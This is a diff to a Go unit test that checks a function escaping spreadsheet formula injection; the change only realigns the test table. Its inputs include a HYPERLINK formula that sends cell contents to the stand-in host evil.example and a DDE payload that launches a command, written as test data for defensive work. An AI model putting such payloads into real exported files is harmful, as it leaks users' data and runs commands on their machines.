@@ -14,16 +14,16 @@ import (
 func TestSpreadsheetText(t *testing.T) {
 	for in, want := range map[string]string{
 		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
-		"+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
-		"-2+3":                 "'-2+3",
-		"@SUM(1,2)":            "'@SUM(1,2)",
-		"\t=1":                 "'\t=1",
-		"\r=1":                 "'\r=1",
-		"":                     "",
-		"alpha":                "alpha",
-		"a=b":                  "a=b",
-		"'quoted":              "'quoted",
-		" =1":                  " =1",
+		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
+		"-2+3":                                             "'-2+3",
+		"@SUM(1,2)":                                        "'@SUM(1,2)",
+		"\t=1":                                             "'\t=1",
+		"\r=1":                                             "'\r=1",
+		"":                                                 "",
+		"alpha":                                            "alpha",
+		"a=b":                                              "a=b",
+		"'quoted":                                          "'quoted",
+		" =1":                                              " =1",
 	} {
 		if got := spreadsheetText(in); got != want {
 			t.Errorf("spreadsheetText(%q) = %q, want %q", in, got, want)
